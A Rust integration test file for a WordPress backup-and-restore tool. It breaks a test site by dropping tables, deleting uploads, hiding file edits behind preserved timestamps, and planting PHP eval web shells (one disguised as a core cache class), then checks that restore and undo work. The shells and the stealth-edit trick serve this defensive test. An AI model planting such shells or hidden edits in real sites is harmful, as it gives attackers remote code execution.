//! A real WordPress, broken in the ways in which people break theirs, comes back by one command and serves its pages.
#![allow(clippy::unwrap_used, clippy::expect_used, reason = "a test may fail anywhere")]

mod common;

use std::fs;
use std::path::{Path, PathBuf};

use common::state::{same, schema, tree};
use common::web::Web;
use common::{Bench, sh};
use undercroft_testkit::mariadb::{self, Server};
use undercroft_testkit::wordpress::{Options, WordPress};

/// A WordPress whose code is in no repository, with its uploads inside of it; a backup is made.
fn backed_up(bench: &Bench, server: &Server) -> WordPress {
    let options = Options { posts: 4, uploads: 3, ..Options::default() };
    let wordpress = WordPress::install_with(server, &bench.path("shop"), options);
    sh(&format!("rm -rf {0}/.git {0}/.gitignore", wordpress.folder().display()));
    server.run_sql("GRANT ALL ON `undercroft\\_%`.* TO shop@localhost");
    bench.ok(["site:add", &wordpress.folder().display().to_string()]);
    bench.back_up("shop.live");
    wordpress
}

/// A post with its picture: where they are served, and what is in them.
struct Post {
    page: String,
    text: String,
    picture: PathBuf,
    bytes: Vec<u8>,
}

fn a_post(wordpress: &WordPress) -> Post {
    let told = wordpress.php(
        "$picture = get_posts(['post_type' => 'attachment', 'numberposts' => 1])[0];
         $post = get_post($picture->post_parent ?: get_posts(['numberposts' => 1])[0]->ID);
         echo $post->ID, \"\\n\", get_attached_file($picture->ID), \"\\n\", $post->post_title;",
    );
    let mut lines = told.lines();
    let page = format!("/?p={}", lines.next().unwrap());
    let picture = PathBuf::from(lines.next().unwrap());
    let bytes = fs::read(&picture).unwrap();
    Post { page, text: lines.next().unwrap().to_owned(), picture, bytes }
}

/// Whether visitors see the post and its picture.
fn is_served(wordpress: &WordPress, post: &Post) -> bool {
    let web = Web::serve(wordpress.folder());
    let host = wordpress.url().strip_prefix("http://").unwrap();
    let picture = format!("/{}", post.picture.strip_prefix(wordpress.folder()).unwrap().display());
    let (front, page, picture) = (web.get(host, "/"), web.get(host, &post.page), web.get(host, &picture));
    front.status == 200
        && page.status == 200
        && page.text().contains(&post.text)
        && picture.status == 200
        && picture.body == post.bytes
}

/// Changes a file as somebody does who wants it not to be seen: its size and time stay.
fn hack(file: &Path) {
    sh(&format!(
        "touch -r {0} {0}.when && sed -i '0,/<?php/s//<?hph/' {0} && touch -r {0}.when {0} && rm {0}.when",
        file.display()
    ));
}

fn break_it(server: &Server, wordpress: &WordPress) {
    let root = wordpress.folder();
    server.run_sql(
        "DROP TABLE shop.wp_posts; UPDATE shop.wp_options SET option_value = 'Hacked' WHERE option_name = 'blogname';
         DELETE FROM shop.wp_comments; CREATE TABLE shop.wp_spam (id INT PRIMARY KEY, link TEXT);
         INSERT INTO shop.wp_spam VALUES (1, 'http://pills.example');",
    );
    fs::remove_dir_all(wordpress.uploads()).unwrap();
    fs::create_dir(wordpress.uploads()).unwrap();
    fs::write(wordpress.uploads().join("shell.php"), "<?php eval($_POST['x']);").unwrap();
    hack(&root.join("wp-load.php"));
    hack(&root.join("wp-includes/version.php"));
    fs::write(root.join("wp-includes/class-wp-cache-x.php"), "<?php eval($_GET['x']);").unwrap();
    fs::remove_file(root.join("wp-login.php")).unwrap();
}

#[test]
fn a_broken_wordpress_comes_back_by_one_command_and_the_restore_can_be_undone() {
    let server = Server::start(mariadb::Options::default());
    let bench = Bench::new();
    let wordpress = backed_up(&bench, &server);
    let post = a_post(&wordpress);
    assert!(is_served(&wordpress, &post));
    // The visit may have left something in the database.
    bench.back_up("shop.live");
    let state = || (tree(wordpress.folder()), schema(&server, "shop"));
    let sound = state();

    break_it(&server, &wordpress);
    assert!(!is_served(&wordpress, &post));
    let broken = state();
    let plan = bench.run(["backup:restore", "shop.live", "--dry-run"]);
    let told = format!("{}{}", plan.out(), plan.err());
    assert!(plan.0.status.success(), "{told}");
    for line in [
        "database: added wp_posts",
        "database: removed wp_spam",
        "code: added wp-login.php",
        "code: removed wp-includes/class-wp-cache-x.php",
        "are the same",
        "files: removed shell.php",
        "Nothing was changed.",
    ] {
        assert!(told.contains(line), "{line}: {told}");
    }
    same(&state().0, &broken.0);
    same(&state().1, &broken.1);

    let ran = bench.run(["backup:restore", "shop.live", "--yes"]);
    let told = ran.err();
    assert!(ran.0.status.success(), "{told}");
    assert_eq!(ran.out(), "");
    for line in [
        "Restored the code backup to live.",
        "Restored the files backup to live.",
        "Restored the database backup to live.",
        "`undercroft backup:restore shop.live --undo` goes back",
    ] {
        assert!(told.contains(line), "{line}: {told}");
    }
    assert!(!told.contains("warning") && !told.contains(wordpress.password()), "{told}");
    same(&state().0, &sound.0);
    same(&state().1, &sound.1);
    let listed = bench.list("shop.live");
    let made_by = |number: usize| listed[number]["initiator"].as_str().unwrap().to_owned();
    assert_eq!((made_by(0), made_by(3)), ("restore".to_owned(), "manual".to_owned()));
    assert_eq!(server.query("SHOW DATABASES LIKE '%undercroft%'"), "", "nothing is left over");
    assert!(is_served(&wordpress, &post));

    bench.ok(["backup:restore", "shop.live", "--undo", "--yes"]);
    same(&state().0, &broken.0);
    same(&state().1, &broken.1);
    assert_eq!(server.query("SHOW DATABASES LIKE '%undercroft%'"), "", "nothing is left over");
}

#[test]
fn parts_come_back_by_themselves() {
    let server = Server::start(mariadb::Options::default());
    let bench = Bench::new();
    let wordpress = backed_up(&bench, &server);
    let post = a_post(&wordpress);
    let older = bench.files("shop.live", "files")[0].clone();
    let sound = schema(&server, "shop");

    server.run_sql("DROP TABLE shop.wp_posts; DELETE FROM shop.wp_comments;");
    let told = bench.run(["backup:restore", "shop.live", "--table=wp_posts", "--yes"]);
    assert!(told.0.status.success(), "{}", told.err());
    assert!(told.err().contains("Restored the database backup to live."), "{}", told.err());
    assert!(!told.err().contains("code backup"), "{}", told.err());
    assert_eq!(server.query("SELECT COUNT(*) FROM shop.wp_comments"), "0\n", "other tables stay");
    bench.ok(["backup:restore", "shop.live", "--table=wp_comments", "--yes"]);
    same(&schema(&server, "shop"), &sound);
    bench.ok(["backup:restore", "shop.live", "--undo", "--yes"]);
    assert_eq!(server.query("SELECT COUNT(*) FROM shop.wp_comments"), "0\n");
    let error = bench.fails(["backup:restore", "shop.live", "--table=wp_nothing", "--yes"]);
    assert!(error.contains("wp_nothing") && error.contains("nothing was changed"), "{error}");

    let uploads = wordpress.uploads();
    let name = post.picture.strip_prefix(&uploads).unwrap().display().to_string();
    fs::write(&post.picture, "overwritten").unwrap();
    fs::write(uploads.join("later.txt"), "uploaded after the backup").unwrap();
    bench.back_up("shop.live");
    bench.ok(["backup:restore", "shop.live", &format!("--file={older}"), &format!("--path={name}"), "--yes"]);
    assert!(fs::read(&post.picture).unwrap() == post.bytes);
    assert!(uploads.join("later.txt").exists(), "only what is named");
    bench.ok(["backup:restore", "shop.live", "--undo", "--yes"]);
    assert_eq!(fs::read(&post.picture).unwrap(), b"overwritten");

    let state = tree(wordpress.folder());
    let to = bench.path("taken out");
    let to_text = format!("--to={}", to.display());
    let ran = bench.run(["backup:restore", "shop.live", &format!("--file={older}"), &to_text]);
    assert!(ran.0.status.success(), "{}", ran.err());
    assert!(ran.err().contains(&format!("Put the files backup into {}.", to.display())), "{}", ran.err());
    assert!(fs::read(to.join(&name)).unwrap() == post.bytes);
    bench.fails(["backup:restore", "shop.live", &format!("--file={older}"), &to_text]);
    same(&tree(wordpress.folder()), &state);

    bench.ok(["backup:restore", "shop.live", &format!("--file={older}"), "--yes"]);
    assert!(fs::read(&post.picture).unwrap() == post.bytes);
    assert!(!uploads.join("later.txt").exists());
    let without = bench.path("file");
    let ran = bench.run(["backup:restore", "shop.live", &format!("--file={}", without.display()), "--yes"]);
    assert_eq!(ran.0.status.code(), Some(1));
    assert!(ran.err().contains("Could not find a backup"), "{}", ran.err());
}
